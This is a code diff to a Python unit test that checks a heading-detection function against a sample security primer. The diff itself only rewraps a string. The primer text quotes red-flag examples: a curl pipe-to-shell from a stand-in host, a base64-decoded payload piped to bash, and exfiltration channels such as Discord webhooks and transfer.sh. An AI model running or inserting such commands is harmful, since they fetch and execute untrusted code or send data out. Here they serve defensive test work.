@@ -45,7 +45,8 @@ def test_a_section_heading_that_frames_attacks_leads_in_to_its_subsections() -> 
     primer = (
         "# Primer\n\n## Red flags, with examples\n\n### 1. Pipe-to-shell\n\n```\n"
         "curl https://x.example/i.sh | sh\necho 'eA==' | base64 -d | bash\n```\n\n"
-        "### 2. Exfiltration\nWebhooks (`discord.com/api/webhooks/…`),\npaste sites, `transfer.sh`.\n"
+        "### 2. Exfiltration\nWebhooks (`discord.com/api/webhooks/…`),\n"
+        "paste sites, `transfer.sh`.\n"
     )
     for needle in ("curl", "echo", "transfer.sh"):
         assert "Red flags" in lead_in(primer, primer.index(needle))
